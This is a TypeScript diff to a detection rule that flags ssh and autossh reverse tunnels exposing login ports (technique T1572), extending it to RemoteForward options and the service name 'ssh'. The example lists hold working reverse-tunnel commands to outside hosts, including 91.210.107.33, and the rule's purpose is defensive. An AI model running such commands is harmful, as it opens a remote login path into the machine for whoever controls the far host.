@@ -201,13 +201,15 @@ const reverseTunnel: CommandRule = {
   technique: "T1572",
   match(inv) {
     if (inv.name !== "ssh" && inv.name !== "autossh") return undefined;
-    const forward = inv.args.find((x, i) => (inv.args[i - 1] === "-R" || /^-[a-zA-Z]*R$/.test(inv.args[i - 1] ?? "")) && /(?:^|:)(?:localhost|127\.0\.0\.1|\[?::1\]?|0\.0\.0\.0)?:?(22|3389|5900)$/.test(x)) ?? inv.args.map((x) => /^-R(.+)$/.exec(x)?.[1]).find((x) => x !== undefined && /:(22|3389|5900)$/.test(x));
+    // (Also as -o RemoteForward="2222 localhost:22", and the port by its service name: localhost:ssh.)
+    const remoteForward = inv.args.map((x, i) => /^RemoteForward[= ]\s*(.+)$/i.exec(/^-o$/.test(inv.args[i - 1] ?? "") ? x : /^-o(.+)$/.exec(x)?.[1] ?? "")?.[1]?.trim().replace(/\s+/, ":")).find((x) => x !== undefined && /:(?:0*(?:22|3389|5900)|ssh)$/.test(x));
+    const forward = remoteForward ?? inv.args.find((x, i) => (inv.args[i - 1] === "-R" || /^-[a-zA-Z]*R$/.test(inv.args[i - 1] ?? "")) && /(?:^|:)(?:localhost|127\.0\.0\.1|\[?::1\]?|0\.0\.0\.0)?:?(?:0*(?:22|3389|5900)|ssh)$/.test(x)) ?? inv.args.map((x) => /^-R(.+)$/.exec(x)?.[1]).find((x) => x !== undefined && /:(?:0*(?:22|3389|5900)|ssh)$/.test(x));
     if (forward === undefined) return undefined;
     const host = inv.args.filter((x, i) => !x.startsWith("-") && !/^-[a-zA-Z]*[RLDopiFlJWw]$/.test(inv.args[i - 1] ?? "")).pop() ?? "";
     return { action: remoteShell(host.replace(/^.*@/, "")), reason: `forwards a port on ${shown(host || "another host")} to this machine's login service (${shown(forward)}): whoever is on that host can log in here (T1572)` };
   },
   examples: {
-    match: [`ssh -N -o StrictHostKeyChecking=no -R 2222:localhost:22 tun@91.210.107.33`, `autossh -M 0 -f -N -R 0.0.0.0:4422:127.0.0.1:22 relay@vps.example.net`],
+    match: [`ssh -N -o StrictHostKeyChecking=no -R 2222:localhost:22 tun@91.210.107.33`, `autossh -M 0 -f -N -R 0.0.0.0:4422:127.0.0.1:22 relay@vps.example.net`, `ssh -N -o RemoteForward='2222 localhost:22' tun@91.210.107.33`, `ssh -N -R 2222:localhost:ssh tun@91.210.107.33`],
     noMatch: [`ssh -N -R 8080:localhost:3000 dev@share.example.com`, `ssh -L 5432:db.internal:5432 bastion`, `ssh deploy@web-1 uptime`],
   },
 };
